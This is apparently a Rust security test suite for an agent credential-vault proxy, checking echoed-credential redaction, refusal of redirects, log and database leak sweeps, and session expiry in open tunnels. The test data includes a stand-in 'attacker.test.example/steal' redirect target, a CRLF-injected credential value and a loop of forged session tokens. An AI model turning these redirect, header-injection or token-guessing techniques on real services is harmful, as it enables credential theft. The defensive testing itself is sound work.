//! Adversarial cases 23-26: credential leakage. A malicious or careless upstream echoes the
//! credential back, in any encoding, or redirects elsewhere; the test then sweeps every
//! output channel the agent or another local process can read for the canary; and a
//! session is revoked or expires while its tunnel stays open.

use serde_json::json;

use super::{Canary, Witness, exchange_in_tunnel};
use crate::proxy::Proxy;
use crate::transparent::{Transparent, tunnel};

/// Every header and the body of an answer, as one text to search.
fn everything(answer: &crate::proxy::Answer) -> Vec<u8> {
    let mut all = format!("{:?}", answer.headers).into_bytes();
    all.extend_from_slice(&answer.body);
    all
}

#[test]
fn case_23_an_echoed_credential_never_reaches_the_agent_in_any_encoding() {
    let canary = Canary::new("echo");
    let proxy = Proxy::start();
    proxy.credentials(
        json!({ "API_TOKEN": canary.value, "QUERY_KEY": format!("{}-q", canary.value) }),
    );
    proxy.services(json!([{
        "name": "api", "host": "api.test.example",
        "auth": { "type": "bearer", "token": "API_TOKEN" },
        "substitutions": [{ "key": "QUERY_KEY", "placeholder": "__query_key__", "in": ["query"] }],
    }]));
    // httpbin-style: headers and query quoted in the body, the query in `Location`, the
    // Authorization in `WWW-Authenticate`; streamed without a length; and in every encoding.
    for path in [
        "/echo?key=__query_key__",
        "/echo-stream?key=__query_key__",
        "/echo-encoded",
    ] {
        let answer = proxy.call("GET", "api.test.example", path, &[]);
        assert_eq!(answer.status, 200, "{path}: {answer:?}");
        canary.assert_absent(&everything(&answer), &format!("the agent ({path})"));
    }
    // The upstream did get the real values, so the echo was real.
    let received = proxy.upstream.last();
    assert_eq!(
        received.header("authorization"),
        [format!("Bearer {}", canary.value)]
    );
    // Each redaction is an event in the server's log, naming the service, never the value.
    let line = proxy.server.wait_for_log(&["api", "echo"]);
    canary.assert_absent(line.as_bytes(), "the server log");
}

#[test]
fn case_24_redirects_are_handed_to_the_agent_and_followed_by_nobody() {
    let attacker = Witness::on("127.0.0.1", 0);
    let canary = Canary::new("redirect");
    let pin = format!("attacker.test.example:{}:127.0.0.1", attacker.port);
    let proxy = Proxy::start_with(
        &["--resolve", &pin],
        &[("AGENT_VAULT_NETWORK_ALLOWLIST", "127.0.0.1/32")],
    );
    proxy.credentials(json!({ "API_TOKEN": canary.value }));
    proxy.services(json!([
        { "name": "api", "host": "api.test.example", "auth": { "type": "bearer", "token": "API_TOKEN" } },
    ]));
    let auth = format!("Bearer {}", proxy.token);
    let found = proxy.call("GET", "api.test.example", "/redirect", &[]);
    assert_eq!(found.status, 302);
    let elsewhere = format!("https://attacker.test.example:{}/steal", attacker.port);
    let temporary = proxy.send(
        "POST",
        &proxy.target("api.test.example", &format!("/redirect-307?to={elsewhere}")),
        &[("authorization", &auth)],
        b"{\"amount\":1}",
    );
    assert_eq!(temporary.status, 307);
    assert_eq!(temporary.header("location"), Some(elsewhere.as_str()));
    // The agent follows it through the proxy: no service covers the new host.
    let followed = proxy.send(
        "POST",
        &format!("/proxy/attacker.test.example:{}/steal", attacker.port),
        &[("authorization", &auth)],
        b"{\"amount\":1}",
    );
    assert_eq!(followed.proxy_error(), (403, "forbidden".into()));
    assert_eq!(attacker.connections(), 0);
    assert_eq!(
        proxy.upstream.received().len(),
        2,
        "each redirect was asked once"
    );
}

#[test]
fn case_25_no_output_channel_carries_the_canary_or_the_session_token() {
    let canary = Canary::new("sweep");
    // The sweep reads the SQLite file's bytes: on SQLite whatever the run's backend.
    let proxy = Proxy::start_in(
        crate::support::DataDir::sqlite(),
        &["--log-level", "debug"],
        &[("AGENT_VAULT_NETWORK_ALLOWLIST", "127.0.0.1/32")],
    );
    proxy.credentials(
        json!({ "API_TOKEN": canary.value, "PATH_KEY": format!("bad\r\n{}", canary.value) }),
    );
    proxy.services(json!([
        { "name": "api", "host": "api.test.example", "auth": { "type": "bearer", "token": "API_TOKEN" } },
        { "name": "broken", "host": "other.test.example", "auth": { "type": "custom", "headers": { "X-Key": "{{ PATH_KEY }}" } } },
    ]));
    // Success, echo, refusals and failures: everything a request can end in.
    let mut answers = vec![
        proxy.call("GET", "api.test.example", "/echo?x=1", &[]),
        proxy.call("GET", "api.test.example", "/redirect", &[]),
        proxy.call("TRACE", "api.test.example", "/x", &[]),
        proxy.call("GET", "api.test.example", "/a/%2e%2e/b", &[]),
        proxy.call("GET", "other.test.example", "/x", &[]),
        proxy.call("GET", "uploads.test.example", "/x", &[]),
    ];
    answers.push(proxy.send(
        "GET",
        "/proxy/api.test.example/x",
        &[("authorization", "Bearer av_sess_wrong")],
        b"",
    ));
    for answer in &answers {
        canary.assert_absent(&everything(answer), "an answer to the agent");
    }
    let (_, logs) = proxy
        .server
        .call("GET", "/v1/vaults/default/logs", Some(&proxy.owner), None);
    canary.assert_absent(logs.to_string().as_bytes(), "the request log");
    assert!(
        !logs.to_string().contains(&proxy.token),
        "the session token is in the request log"
    );
    // Core dumps are off (and the process is not dumpable): its memory never lands in a file.
    let limits =
        std::fs::read_to_string(format!("/proc/{}/limits", proxy.server.child.id())).unwrap();
    let core = limits
        .lines()
        .find(|line| line.starts_with("Max core file size"))
        .unwrap()
        .split_whitespace()
        .skip(4)
        .take(2)
        .collect::<Vec<_>>();
    assert_eq!(core, ["0", "0"], "{limits}");
    // The server's own log, at debug level.
    proxy.server.terminate();
    let log = proxy.server.rest_of_log().join("\n");
    canary.assert_absent(log.as_bytes(), "the server log");
    assert!(
        !log.contains(&proxy.token),
        "the session token is in the server log"
    );
    // The database after VACUUM: values only sealed, tokens only hashed.
    let database = proxy.data.path().join("agent-vault.db");
    rusqlite::Connection::open(&database)
        .unwrap()
        .execute_batch("VACUUM")
        .unwrap();
    let mut files = std::fs::read(&database).unwrap();
    files.extend(std::fs::read(database.with_extension("db-wal")).unwrap_or_default());
    canary.assert_absent(&files, "the database");
    assert!(!String::from_utf8_lossy(&files).contains(&proxy.token));
}

#[test]
fn case_26_sessions_end_inside_open_tunnels_and_failures_look_alike() {
    let t = Transparent::start();
    let port = t.proxy.upstream.port;
    let host = format!("Host: api.test.example:{port}\r\n");
    // A session that expires while its tunnel is open stops at the next request.
    let (_, minted) = t.proxy.server.call(
        "POST",
        "/v1/sessions",
        Some(&t.proxy.owner),
        Some(&json!({ "vault": "default" })),
    );
    let token = minted["token"].as_str().unwrap().to_owned();
    let mut tls = tunnel(&t, &token, "api.test.example", "api.test.example").unwrap();
    let request = format!("GET /x HTTP/1.1\r\n{host}\r\n");
    assert_eq!(
        exchange_in_tunnel(&mut tls, request.as_bytes()).unwrap().0,
        200
    );
    let hash = {
        use sha2::Digest as _;
        hex::encode(sha2::Sha256::digest(token.as_bytes()))
    };
    crate::store_rows::Rows::open(&t.proxy.data).execute(
        "UPDATE tokens SET expires_at = 1 WHERE hash = $1",
        &[hash.into()],
    );
    // Any write through the API drops the proxy's cache of tokens.
    t.proxy.credentials(json!({ "NUDGE": "nudge-value" }));
    let (status, body) = exchange_in_tunnel(&mut tls, request.as_bytes()).unwrap();
    assert_eq!(status, 401, "{}", String::from_utf8_lossy(&body));
    // An expired token cannot open a tunnel.
    let answer = super::connect(&t.address, &token, &format!("api.test.example:{port}"));
    assert!(answer.starts_with("HTTP/1.1 407"), "{answer}");
    // A wrong token with our prefix and a random string get the same answer.
    let shaped = super::connect(
        &t.address,
        &format!("av_sess_{}", "0".repeat(64)),
        "api.test.example:443",
    );
    let random = super::connect(&t.address, "qwertyuiop", "api.test.example:443");
    let strip_date = |answer: &str| {
        answer
            .lines()
            .filter(|line| !line.to_ascii_lowercase().starts_with("date:"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(strip_date(&shaped), strip_date(&random));
    assert!(shaped.starts_with("HTTP/1.1 407"), "{shaped}");

    // A client guessing tokens is held back after the burst (50 in 5 minutes), whatever it
    // sends next; here it comes through a reverse proxy that names it.
    let proxy = Proxy::start_with(
        &["--trusted-proxies", "127.0.0.1"],
        &[("AGENT_VAULT_NETWORK_ALLOWLIST", "127.0.0.1/32")],
    );
    let target = proxy.target("api.test.example", "/");
    let guess = |n: usize| {
        let auth = format!("Bearer av_sess_{n:064x}");
        proxy
            .send(
                "GET",
                &target,
                &[
                    ("authorization", &auth),
                    ("x-forwarded-for", "198.51.100.7"),
                ],
                b"",
            )
            .status
    };
    let statuses: Vec<u16> = (0..60).map(guess).collect();
    assert!(
        statuses[..50].iter().all(|&status| status == 401),
        "{statuses:?}"
    );
    assert!(
        statuses[50..].iter().all(|&status| status == 429),
        "{statuses:?}"
    );
}
